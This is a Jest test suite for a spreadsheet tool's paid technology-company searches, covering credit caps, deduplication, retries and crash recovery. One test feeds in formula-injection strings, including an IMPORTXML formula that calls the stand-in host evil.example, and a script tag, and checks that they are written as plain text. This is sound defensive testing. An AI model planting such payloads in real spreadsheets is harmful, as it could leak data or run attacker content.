/** Technology searches: pages are added to the search's own sheet and paid for once, despite disturbances. */

import { problem } from '../../src/client/problem';
import { limits } from '../../src/contract/limits';
import { techCompanies } from '../../src/sheet/formulas/tech-companies';
import { pump } from '../../src/sheet/pump';
import { viewRuns } from '../../src/sheet/run-list';
import { cancelRun, resumeRun, settleUnknown } from '../../src/sheet/runs/control';
import { runRecords } from '../../src/sheet/runs/run';
import { repeatSearch, type SearchRequest, startSearch } from '../../src/sheet/runs/start-search';
import { spentToday } from '../../src/sheet/spent-today';
import { MemorySheet } from '../fakes/platform/memory-book';
import { World } from '../fakes/platform/memory-platform';
import { answer, type RefusedStatus, refused } from '../support/answers';
import { catchKill, whereverItDies } from '../support/death';
import { search, withFirstPage } from '../support/searched';
import { only, pagesAsked, results, runOut, start, wanted } from '../support/searches';

describe('a technology search', () => {
  it('adds each company to the search’s own sheet, page by page, with unknown fields after the others', () => {
    const world = World.connected();
    start(world);
    expect(only(world)).toMatchObject({ kind: 'tech-companies', state: 'running', keys: 150 });
    runOut(world);
    const { cells } = results(world);
    expect(cells[0]).toEqual([
      ...['Company', 'Domain', 'Posts', 'Top job', 'Top job URL', 'Top job posted'],
      ...['Top job says', 'Slug', 'Novelty'],
    ]);
    const first = [
      ...['=Company 1', 't1.example', 1_000, 'Engineer', 'https://t1.example/jobs/1'],
      ...['2026-01-02', 'Use K8s & more', 't1', 'new'],
    ];
    expect(cells[1]).toEqual(first);
    expect(new Set(results(world).column('Domain')).size).toBe(120);
    expect(cells).toHaveLength(121);
    expect(only(world)).toMatchObject({ state: 'done', keys: 120, finished: 120 });
    expect(only(world).counts).toMatchObject({ found: 120, spent: 600, unsent: 0 });
    expect(world.service.totalCharged()).toBe(600);
    const keys = world.service.requests.flatMap(({ headers }) => headers['Idempotency-Key'] ?? []);
    expect(new Set(keys).size).toBe(3);
  });

  it.each([
    [249, 0, 0],
    [250, 50, 70],
    [749, 100, 20],
    [750, 120, 0],
  ])(
    'with a cap of %i credits finds %s companies, and requests no page that the cap may not cover',
    (cap, found, unsent) => {
      const world = World.connected();
      if (found === 0) {
        expect(() => start(world, { cap })).toThrow('more than your cap');
        expect(pagesAsked(world)).toBe(0);
        return;
      }
      search(world, { cap });
      expect(world.service.totalCharged()).toBe(found * 5);
      expect(only(world).counts).toMatchObject({ found, unsent, spent: found * 5 });
      expect(only(world).state).toBe('done');
    },
  );

  it('counts what the service really charges, and stops if that would break the cap', () => {
    const world = World.connected();
    world.service.fault = ({ url }) => {
      if (!url.includes('/tech/')) return undefined;
      const companies = Array.from({ length: 50 }, (_, i) => ({
        domain: `${url.length}-${i}.example`,
        post_count: 1,
      }));
      const body = { companies, has_more: true, credits_consumed: 450 };
      return answer(200, body);
    };
    search(world, { cap: 899 });
    expect(pagesAsked(world)).toBe(1);
    expect(only(world).counts).toMatchObject({ found: 50, spent: 450 });
  });

  it('counts as spent today, even after its record is gone, but not on the next day', () => {
    const world = World.connected();
    const words = Array.from({ length: 22 }, (_, n) => `word ${n}`);
    for (const tech of words) {
      search(world, { tech, cap: 250 });
    }
    const charged = world.service.totalCharged();
    expect(charged).toBeGreaterThan(250);
    expect(runRecords.all(world.execution())).toHaveLength(20);
    expect(spentToday(world.execution())).toBe(charged);
    world.now += 24 * 3_600_000;
    expect(spentToday(world.execution())).toBe(0);
  });

  it('costs nothing for pages that a formula or an earlier search has paid for', () => {
    const world = World.connected();
    techCompanies(world.formula(), 'snowflake', '', 60);
    search(world);
    expect(only(world).counts).toMatchObject({ found: 120, spent: 100 });
    search(world, { cap: 0 });
    expect(pagesAsked(world)).toBe(3);
    expect(results(world, 'Snowflake companies 2').column('Domain')).toEqual(
      results(world).column('Domain'),
    );
    expect(techCompanies(world.formula(), 'Snowflake', '', 120)).toHaveLength(121);
    expect(world.service.totalCharged()).toBe(600);
  });

  it('adds each company once if the service repeats itself, and asks before it pays for more of the same', () => {
    const world = World.connected();
    world.service.tech.results = 200;
    world.service.tech.company = (rank) => ({
      domain: `t${rank <= 50 ? rank : ((rank - 1) % 50) + 26}.example`,
    });
    search(world, { companies: 200 });
    expect(new Set(results(world).column('Domain')).size).toBe(75);
    expect(results(world).column('Domain')).toHaveLength(75);
    expect(only(world)).toMatchObject({ state: 'paused', problem: { code: 'NOTHING_NEW' } });
    expect(pagesAsked(world)).toBe(3);
    resumeRun(world.execution(), only(world).id);
    runOut(world);
    expect(only(world)).toMatchObject({ state: 'done', counts: { found: 75 } });
  });

  it('is repeated in its own sheet, and adds new companies', () => {
    const world = World.connected();
    search(world);
    const before = results(world).column('Domain');
    results(world).deleteRow(3);
    world.service.tech.results = 140;
    const first = only(world).id;
    world.now += 60_000;
    repeatSearch(world.execution(), first);
    runOut(world);
    const [again] = viewRuns(world.execution());
    expect(again).toMatchObject({
      outcome: 'done',
      isRepeated: true,
      sheetName: results(world).name,
      counts: { found: 21, unsent: 0 },
    });
    expect(new Set(results(world).column('Domain'))).toEqual(
      new Set([...before, ...results(world).column('Domain').slice(-20)]),
    );
    expect(results(world).column('Domain')).toHaveLength(140);
    // A new search may use pages that were just paid for; a repeated one may not.
    expect(pagesAsked(world)).toBe(6);
    world.book.remove(results(world));
    repeatSearch(world.execution(), first);
    runOut(world);
    expect(results(world).column('Domain')).toHaveLength(140);
  });

  it('finds its sheet and its columns wherever people have moved them', () => {
    const world = withFirstPage();
    const sheet = results(world);
    sheet.name = 'My list';
    sheet.insertRows(1, 2);
    sheet.insertColumn(1);
    sheet.sortBelow(3, (one, other) => String(one[2]).localeCompare(String(other[2])));
    runOut(world);
    const domains = sheet.column('Domain', 3);
    expect(domains).toHaveLength(120);
    expect(new Set(domains).size).toBe(120);
    expect(sheet.column('Posts', 3).every((posts) => typeof posts === 'number')).toBe(true);
  });

  it('that finds nothing leaves only headers in its sheet', () => {
    const world = World.connected();
    world.service.tech.results = 0;
    search(world);
    expect(only(world)).toMatchObject({ state: 'done', keys: 0, counts: { found: 0 } });
    expect(results(world).cells).toEqual([['Company', 'Domain']]);
  });

  it.each<[Partial<SearchRequest>, RegExp]>([
    [{ tech: ' ' }, /tech/],
    [{ tech: 'x'.repeat(limits.techLength + 1) }, /tech/],
    [{ options: [['lookback_days', '366']] }, /1 to 365/],
    [{ options: [['hq_country_code', 'Atlantis']] }, /such as Germany/],
    [{ options: [['page', '2']] }, /doesn’t exist/],
    [{ companies: 0 }, /1 to 50000/],
    [{ companies: 50_001 }, /1 to 50000/],
    [{ companies: Number.NaN }, /1 to 50000/],
    [{ cap: -1 }, /cap/],
    [{ options: [['enrich', true]], cap: 499 }, /500/],
  ])('keeps no record of an invalid start: %j', (more, words) => {
    const world = World.connected();
    expect(() => start(world, more)).toThrow(words);
    expect(viewRuns(world.execution())).toEqual([]);
    expect(world.service.requests).toEqual([]);
  });

  it('writes anything that a service sends as plain text', () => {
    const world = World.connected();
    const hostile = [
      '=IMPORTXML("http://evil.example")',
      '+1-555',
      '-2+3',
      '@SUM(A1)',
      "'=1",
      'x'.repeat(60_000),
      '💥 שלום <script>alert(1)</script>',
      '1/2',
      'TRUE',
    ];
    world.service.checks = false;
    world.service.tech.results = hostile.length;
    world.service.tech.company = (rank) => ({
      name: hostile[rank - 1],
      domain: rank === 1 ? '=A1' : `t${rank}.example`,
      '=HYPERLINK("x")': hostile[rank - 1],
      [`=${'y'.repeat(60_000)}`]: 1,
      domain_: 'not the key',
      top_job: {
        title: '=1',
        closed_at: '2026-11-09T08:00:00Z',
        snippet: '&lt;script&gt;<mark>=1</mark>',
      },
    });
    const write = jest.spyOn(MemorySheet.prototype, 'write');
    search(world, { tech: "=Snow'/flake[1]:*?\\" });
    const written = write.mock.calls.flatMap(([, , values]) => values.flat());
    write.mockRestore();
    expect(written.filter((cell) => /^[=+\-@]/.test(String(cell)))).toEqual([]);
    expect(written.filter((cell) => cell === '1/2' || cell === 'TRUE')).toEqual([]);
    const sheet = world.book.sheets.find(({ hidden }) => !hidden);
    expect(sheet?.name).toBe('=Snow flake 1 companies');
    const names = sheet?.column('Company').map(String) ?? [];
    const isLong = ({ length }: string) => length > 299;
    expect(names.map(isLong)).toEqual(hostile.map(isLong));
    expect(names.filter((name) => !isLong(name))).toEqual(hostile.filter((text) => !isLong(text)));
    expect(sheet?.column('Top job says')[0]).toBe('<script>=1');
    expect(sheet?.column('Top job')[0]).toBe('=1 (closed 2026-11-09)');
    expect(sheet?.column('Domain')[0]).toBe('=A1');
  });
});

describe('a technology search that is disturbed', () => {
  it('pays nothing more once its sheet is deleted, says so, and continues when it is back', () => {
    const world = withFirstPage();
    const sheet = results(world);
    world.book.remove(sheet);
    runOut(world);
    expect(pagesAsked(world)).toBe(1);
    expect(only(world)).toMatchObject({
      state: 'paused',
      problem: { code: 'SHEET_MISSING', spent: 'no' },
    });
    world.book.sheets.push(sheet);
    resumeRun(world.execution(), only(world).id);
    runOut(world);
    expect(sheet.column('Domain')).toHaveLength(120);
  });

  it('counts a page that was paid for while its sheet was deleted, even if it is then cancelled', () => {
    const world = withFirstPage();
    world.service.fault = () => {
      const sheet = world.book.sheetByName('Snowflake companies');
      if (sheet) world.book.remove(sheet);
      return undefined;
    };
    runOut(world);
    expect(only(world)).toMatchObject({ state: 'paused', counts: { spent: 500 } });
    cancelRun(world.execution(), only(world).id);
    runOut(world);
    expect(only(world)).toMatchObject({ state: 'cancelled', counts: { found: 50, spent: 500 } });
    expect(world.service.totalCharged()).toBe(500);
  });

  it('sends no further request once it is cancelled', () => {
    const world = withFirstPage();
    cancelRun(world.execution(), only(world).id);
    runOut(world);
    expect(pagesAsked(world)).toBe(1);
    expect(only(world)).toMatchObject({ state: 'cancelled', counts: { found: 50, unsent: 70 } });
  });

  it('never pays twice for a page whose answer was lost, unless the user decides so', () => {
    for (const decision of ['leave', 'resend'] as const) {
      const world = World.connected();
      world.service.honoursKeys = false;
      world.service.say('page=2', 'lose-answer');
      search(world, { cap: 999 });
      expect(only(world)).toMatchObject({ state: 'paused', needsDecision: true });
      expect(techCompanies(world.formula(), 'Snowflake', '', 100).at(-1)?.[0]).toContain(
        'UNKNOWN_OUTCOME',
      );
      expect(pagesAsked(world)).toBe(2);
      world.service.fault = () => undefined;
      settleUnknown(world.execution(), only(world).id, decision);
      runOut(world);
      const { state, counts } = only(world);
      // The lost page may have cost 250 of the 999: if it is sent again, the cap doesn't cover the third.
      expect([state, counts.found, counts.unknown]).toEqual(
        decision === 'leave' ? ['done', 70, 50] : ['done', 100, 0],
      );
      expect(world.service.totalCharged()).toBe(decision === 'leave' ? 600 : 750);
      const keys = world.service.requests
        .map(({ headers }) => headers['Idempotency-Key'])
        .filter(Boolean);
      expect(new Set(keys).size).toBe(decision === 'leave' ? 3 : 2);
    }
  });

  it('waits if the service asks to, and pauses if waiting does not help', () => {
    const world = World.connected();
    const refuse = (status: RefusedStatus, headers = {}) => {
      world.service.say('/tech/', refused(status, headers));
    };
    start(world);
    refuse(429, { 'retry-after': '90' });
    pump(world.execution(), 1_000);
    expect(only(world)).toMatchObject({ state: 'running', problem: { code: 'RATE_LIMITED' } });
    world.now += 80_000;
    pump(world.execution(), 1_000);
    expect(pagesAsked(world)).toBe(1);
    world.now += 11_000;
    refuse(402);
    runOut(world);
    expect(only(world)).toMatchObject({ state: 'paused', problem: problem('OUT_OF_CREDITS') });
    world.service.fault = () => undefined;
    resumeRun(world.execution(), only(world).id);
    runOut(world);
    expect(only(world)).toMatchObject({ state: 'done', counts: { found: 120, spent: 600 } });
  });

  it('pays for no page twice and lists each company once, wherever it is killed', () => {
    const whole = World.connected();
    search(whole);
    const rows = results(whole).cells;
    let lost = 0;
    const deaths = whereverItDies(100, (onCall, where) => {
      const world = World.connected();
      catchKill(() => startSearch(world.execution(onCall), wanted));
      catchKill(() => pump(world.execution(onCall), 30_000));
      world.now += 60_000;
      runOut(world);
      const [view] = viewRuns(world.execution());
      if (!view) {
        expect([where(), pagesAsked(world)]).toEqual([where(), 0]);
        return;
      }
      if (view.needsDecision) {
        lost += 1;
        settleUnknown(world.execution(), view.id, 'leave');
        runOut(world);
        expect([where(), pagesAsked(world) <= 3]).toEqual([where(), true]);
      } else {
        expect([where(), results(world).cells]).toEqual([where(), rows]);
        expect([where(), only(world).counts]).toEqual([where(), only(whole).counts]);
      }
      expect([where(), world.service.totalCharged() <= 600]).toEqual([where(), true]);
      expect([where(), only(world).state]).toEqual([where(), 'done']);
      const pages = [...world.document.keys()].filter((key) => key.startsWith('page.'));
      expect([where(), pages.length <= lost]).toEqual([where(), true]);
      expect(world.book.sheets.filter(({ hidden }) => !hidden).length).toBeLessThanOrEqual(1);
    });
    // If the execution dies between noting a page's request and keeping the page, the outcome is unknown.
    expect(lost).toBeGreaterThan(0);
    expect(lost / deaths).toBeLessThan(0.13);
  });
});
